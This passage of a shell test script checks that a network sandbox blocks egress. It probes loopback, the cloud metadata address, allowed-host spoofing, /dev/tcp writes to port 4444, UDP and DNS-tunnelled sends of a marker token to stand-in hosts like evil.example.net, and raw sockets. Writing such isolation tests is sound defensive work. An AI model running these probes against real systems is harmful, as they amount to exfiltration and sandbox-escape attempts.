# Everything that is not an allowed host.
attempt 'a service on the loopback of the host answers' 'curl -fsS -m 4 http://127.0.0.1:8600/$MARK'
attempt 'a service on the ipv6 loopback of the host answers' 'curl -fsS -m 4 "http://[::1]:8600/$MARK"'
attempt 'a service on the lan address of the host answers' 'curl -fsS -m 4 http://$HOST4:8600/$MARK'
attempt 'a service on the ipv6 lan address of the host answers' 'curl -fsS -m 4 "http://[$HOST6]:8600/$MARK"'
inside 'a service of the host answers through the proxy' 'curl -fsS -m 4 -x "$PROXY" http://$HOST4:8600/$MARK'
inside 'a service of the host answers through a tunnel' 'curl -fsS -m 4 -p -x "$PROXY" http://$HOST4:8600/$MARK'
attempt 'a unix socket of the host answers' 'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"$HOST_SOCKET\"); s.settimeout(4); assert s.recv(1)"'
attempt 'an abstract unix socket of the host answers' 'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0$ABSTRACT\"); s.settimeout(4); assert s.recv(1)"'
attempt 'a unix socket lying in the workspace answers' 'python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"service.sock\"); s.settimeout(4); assert s.recv(1)"'
attempt 'another bottle answers' 'curl -fsS -m 4 http://127.0.0.1:7777/$MARK'
attempt 'the other bottle answers on ipv6' 'curl -fsS -m 4 "http://[::1]:7777/$MARK"'
attempt 'the metadata address answers' 'curl -fsS -m 4 http://169.254.169.254/$MARK'
inside 'the metadata address answers through the proxy' 'curl -fsS -m 4 -x "$PROXY" http://169.254.169.254/$MARK'
attempt 'the router of the lan answers' 'curl -fsS -m 4 http://10.77.0.1/$MARK'
attempt 'a host without a route answers' 'curl -fsS -m 4 https://evil.example.net/$MARK'
attempt 'a host without a route answers a client that wants no proxy' "curl -fsS -m 4 --noproxy '*' https://evil.example.net/\$MARK"
attempt 'a host without a route answers over plain http' 'curl -fsS -m 4 http://evil.example.net/$MARK'
inside 'a host without a route answers through the proxy' 'curl -fsS -m 4 -x "$PROXY" https://evil.example.net/$MARK'
attempt 'an address answers over tls' 'curl -fskS -m 4 https://$EVIL4/$MARK'
attempt 'an ipv6 address answers over tls' 'curl -fskS -m 4 "https://[$EVIL6]/$MARK"'
attempt 'an address answers under the name of an allowed host' 'curl -fskS -m 4 --resolve docs.example.com:443:$EVIL4 -H "Host: evil.example.net" https://docs.example.com/$MARK'
attempt 'an allowed host takes a request for another' 'curl -fskS -m 4 -H "Host: evil.example.net" https://docs.example.com/$MARK'
inside 'a tunnel to an allowed name leads elsewhere' 'curl -fskS -m 4 -x "$PROXY" --connect-to evil.example.net:443:docs.example.com:443 https://evil.example.net/$MARK'
attempt 'an allowed host answers on another port' 'curl -fskS -m 4 https://docs.example.com:8443/$MARK'
attempt 'an allowed host takes a method it has no grant for' 'curl -fsS -m 4 -X DELETE https://docs.example.com/$MARK'
for port in 22 25 4444 5000 8080 9418; do
  attempt "bytes reach a foreign port $port" "exec 3<>/dev/tcp/203.0.113.77/$port && echo \$MARK >&3 && sleep 0.1"
done
sending 'bytes that are no http reach a foreign web port' 'exec 3<>/dev/tcp/203.0.113.77/80; printf "%s\r\n\r\n" "$MARK" >&3; sleep 0.2'
sending 'bytes that are no tls reach a foreign web port' 'exec 3<>/dev/tcp/203.0.113.77/443; printf "%s\r\n\r\n" "$MARK" >&3; sleep 0.2'
for to in 203.0.113.77:4444 8.8.8.8:123 8.8.8.8:443 1.1.1.1:853 10.77.0.2:8600 10.77.0.1:4444 255.255.255.255:4444; do
  sending "a datagram reaches $to" "python3 -c 'import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(os.environ[\"MARK\"].encode(), (\"${to%:*}\", ${to#*:}))'"
done
sending 'a datagram reaches an ipv6 address' "python3 -c 'import os, socket
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(os.environ[\"MARK\"].encode(), (\"2001:db8::77\", 4444))'"
# A question to a name server, by hand: header, the name's labels, type A, class IN (RFC 1035).
cat >"$WORK/ask.py" <<'P'
import os, socket, struct, sys
server, transport = sys.argv[1], sys.argv[2]
name = os.environ["MARK"][:60] + ".example.net"
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0)
query += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1"
family = socket.AF_INET6 if ":" in server else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM)
s.settimeout(3)
s.connect((server, 53))
s.sendall(query if transport == "udp" else struct.pack(">H", len(query)) + query)
print(s.recv(4)[3:])
P
for server in 8.8.8.8 203.0.113.53 2001:4860:4860::8888; do
  sending "name server $server is asked" "python3 "$WORK/ask.py" $server udp"
done
sending 'name server 1.1.1.1 is asked by tcp' 'python3 "$WORK/ask.py" 1.1.1.1 tcp'
sending 'a name is looked up as programs do' 'getent hosts "$(printf %s "$MARK" | cut -c 1-60).example.net"'
sending 'a name below an allowed one is looked up' 'getent hosts "$(printf %s "$MARK" | cut -c 1-60).docs.example.com"'
attempt 'names are asked for over https' 'curl -fskS -m 4 "https://8.8.8.8/dns-query?name=$MARK"'
attempt 'a vsock socket is made' 'python3 -c "import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)"'
attempt 'a packet socket is made' 'python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"'
attempt 'a raw socket is made' 'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"'
inside 'a socket for the crypto interface is made' 'python3 -c "import socket; socket.socket(38, socket.SOCK_SEQPACKET)"'
attempt 'the network is reconfigured' 'ip address add 10.99.0.1/32 dev lo'
